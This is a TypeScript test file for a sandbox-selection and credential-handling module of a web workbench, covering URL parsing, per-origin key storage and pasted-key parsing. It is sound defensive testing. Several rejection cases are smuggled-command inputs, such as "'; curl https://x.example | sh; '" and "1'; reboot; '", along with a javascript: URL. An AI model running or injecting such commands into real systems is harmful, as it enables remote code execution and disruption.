import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { provider } from '../../provider.config.ts';
import { applyChoice } from '../parts/destination/applyChoice.ts';
import { hasStoredChoice } from './browserStorage.ts';
import { chooseDestination, chosenDestination, originIn, readDestination } from './destination.ts';
import { findSandbox } from './findSandbox.ts';
import { keysInUse, storeSandbox, switchSandbox } from './keyring.ts';
import { keysIn } from './pastedKeys.ts';
import { printedCredentials } from './typedCredentials.ts';

const seed = { platformCode: '0001', privateKey: 'seedKey', clientId: '999999990' };
const own = { platformCode: '4915127731', privateKey: 'q8ZrV1sT0mYk3LwPb7NcXd2H', clientId: '999999990' };
const local = 'http://localhost:4000';
const other = 'https://sandbox.example';
const { testing } = provider.servers;

/** Browser storage whose values can be enumerated, as in a real browser. */
function storage(): Storage {
  const methods = {
    getItem: (name: string) => values[name] ?? null,
    setItem: (name: string, text: string) => {
      values[name] = text;
    },
    removeItem: (name: string) => {
      delete values[name];
    },
  };
  const values: Record<string, string> = Object.create(methods);
  return values as unknown as Storage;
}

/** Running servers by origin, each with the platform code that it accepts. */
let sandboxes: Record<string, string>;
let requested: string[];

beforeEach(() => {
  sandboxes = { [local]: own.platformCode, [other]: own.platformCode };
  requested = [];
  vi.stubGlobal('localStorage', storage());
  vi.stubGlobal('sessionStorage', storage());
  vi.stubGlobal('fetch', async (url: string, { headers = {} }: { headers?: Record<string, string> }) => {
    requested.push(url);
    if (url === '/runtime.json') return Response.json({ sandboxUrl: local });
    const { origin, pathname } = new URL(url);
    const accepted = sandboxes[origin];
    if (accepted === undefined) throw new TypeError('fetch failed');
    if (pathname === '/sandbox/health') return Response.json({ success: true });
    const [code] = atob(String(headers.Authorization).slice('Basic '.length)).split(':');
    return Response.json({}, { status: code === accepted ? 200 : 401 });
  });
});
afterEach(() => vi.unstubAllGlobals());

describe('a URL that a reader types', () => {
  test.each([
    ['https://sandbox.example/', 'https://sandbox.example'],
    [' sandbox.example/api?x=1 ', 'https://sandbox.example'],
    ['localhost:5000', 'http://localhost:5000'],
    ['http://127.0.0.1:5000/', 'http://127.0.0.1:5000'],
  ])('%s names %s', (typed, origin) => expect(originIn(typed)).toBe(origin));

  test.each([
    '',
    'two words',
    'ftp://sandbox.example',
    'javascript:alert(1)',
    'https://user:key@sandbox.example',
    'http://sandbox.example',
    'http://127.0.0.1.sandbox.example',
  ])('%s names no place that credentials may go to', (typed) => expect(originIn(typed)).toBeUndefined());
});

test.each([null, '', '{', '[]', '{"kind":"url"}', '{"kind":"url","origin":"http://x.example"}', '{"kind":7}'])(
  'what somebody else stored (%s) is the local sandbox',
  (text) => expect(readDestination(text)).toEqual({ kind: 'local' }),
);

test('the choice is kept, and the default leaves nothing behind', () => {
  chooseDestination({ kind: 'url', origin: other });
  expect(chosenDestination()).toEqual({ kind: 'url', origin: other });
  expect(hasStoredChoice()).toBe(true);
  chooseDestination({ kind: 'local' });
  expect(chosenDestination()).toEqual({ kind: 'local' });
  expect(hasStoredChoice()).toBe(false);
});

test('a private sandbox is a choice too, until the shared one is used again', () => {
  storeSandbox(local, own);
  expect(hasStoredChoice()).toBe(true);
  switchSandbox(local, seed.platformCode);
  expect(hasStoredChoice()).toBe(false);
});

describe('the sandbox that is found', () => {
  test('is the chosen one, and no other takes its place', async () => {
    chooseDestination({ kind: 'url', origin: other });
    expect(await findSandbox('/')).toBe(other);
    delete sandboxes[other];
    expect(await findSandbox('/')).toBeUndefined();
    expect(new Set(requested)).toEqual(new Set([`${other}/sandbox/health`]));
  });

  test.each(['testing', 'replay'] as const)('is none at the destination %s, which is not asked', async (kind) => {
    chooseDestination({ kind });
    expect(await findSandbox('/')).toBeUndefined();
    expect(requested).toEqual([]);
  });
});

describe('credentials', () => {
  test('belong to their origin', () => {
    storeSandbox(local, own);
    storeSandbox(testing, { ...own, platformCode: '77' });
    expect(keysInUse(local, seed)).toEqual(own);
    expect(keysInUse(other, seed)).toEqual(seed);
    expect(keysInUse(testing, seed).platformCode).toBe('77');
  });

  test('typed for a server of the provider stay in the tab, and the seed is never sent there', () => {
    expect(keysInUse(testing, seed)).toEqual({ platformCode: '', privateKey: '', clientId: '' });
    storeSandbox(testing, own);
    expect(JSON.stringify(localStorage)).not.toContain(own.privateKey);
    expect(JSON.stringify(sessionStorage)).toContain(own.privateKey);
  });

  test('of the provider are printed without their key', () => {
    const placeholders = { platformCode: 'CODE', privateKey: 'KEY', clientId: 'NUMBER' };
    expect(printedCredentials(local, own, placeholders)).toEqual(own);
    expect(printedCredentials(testing, own, placeholders)).toEqual({ ...own, privateKey: 'KEY' });
    const quotes = { ...own, platformCode: "1'; reboot; '" };
    expect(printedCredentials(testing, quotes, placeholders).platformCode).toBe('CODE');
  });
});

describe('pasted keys', () => {
  const link = `${other}/#keys=${own.platformCode}:${own.privateKey}:${own.clientId}`;
  const data = { seed: 'loja', ...own, createdAt: '2026-01-15T10:00:00+00:00', workbenchUrl: link };

  test.each([
    ['the response', JSON.stringify({ success: true, data }, null, 2), { seed: 'loja' }],
    ['its data', JSON.stringify(data), { seed: 'loja' }],
    ['the link', ` ${link} `, {}],
  ])('are read from %s', (_, text, more) => {
    expect(keysIn(text)).toEqual({ keys: { ...own, ...more }, origin: other });
  });

  test('are read from the fragment alone', () => {
    expect(keysIn(link.slice(link.indexOf('#')))).toEqual({ keys: own, origin: undefined });
  });

  test.each([
    '',
    own.privateKey,
    '{',
    '{"data":null}',
    JSON.stringify({ ...own, clientId: 999999990 }),
    JSON.stringify({ ...own, privateKey: "'; curl https://x.example | sh; '" }),
    JSON.stringify({ ...own, platformCode: '<img>' }),
    '#keys=1:2',
    '#keys=1:%E0%A4%A:999999990',
    `#keys=${own.platformCode}:${encodeURIComponent('a"b')}:${own.clientId}`,
  ])('are none in %s', (text) => expect(keysIn(text)).toBeUndefined());
});

describe('a choice in the dialog', () => {
  test('of another sandbox is used with the keys it accepts', async () => {
    const draft = { kind: 'url', url: other, keys: own } as const;
    expect(await applyChoice(draft, '/')).toBeUndefined();
    expect(chosenDestination()).toEqual({ kind: 'url', origin: other });
    expect(keysInUse(other, seed)).toEqual(own);
    expect(keysInUse(local, seed)).toEqual(seed);
  });

  test.each([
    ['url', { kind: 'url', url: 'no place' }],
    ['silent', { kind: 'url', url: 'https://nobody.example' }],
    ['refused', { kind: 'url', url: other, keys: { ...own, platformCode: '1' } }],
    ['refused', { kind: 'local', url: '', keys: { ...own, platformCode: '1' } }],
    ['keys', { kind: 'testing', url: '', keys: { ...own, clientId: 'x' } }],
  ] as const)('that cannot be used (%s) changes nothing', async (problem, draft) => {
    expect(await applyChoice(draft, '/')).toBe(problem);
    expect(Object.keys(localStorage)).toEqual([]);
    expect(Object.keys(sessionStorage)).toEqual([]);
  });

  test('of the testing server needs no credentials yet', async () => {
    expect(await applyChoice({ kind: 'testing', url: '' }, '/')).toBeUndefined();
    expect(chosenDestination()).toEqual({ kind: 'testing' });
    expect(requested).toEqual([]);
  });
});
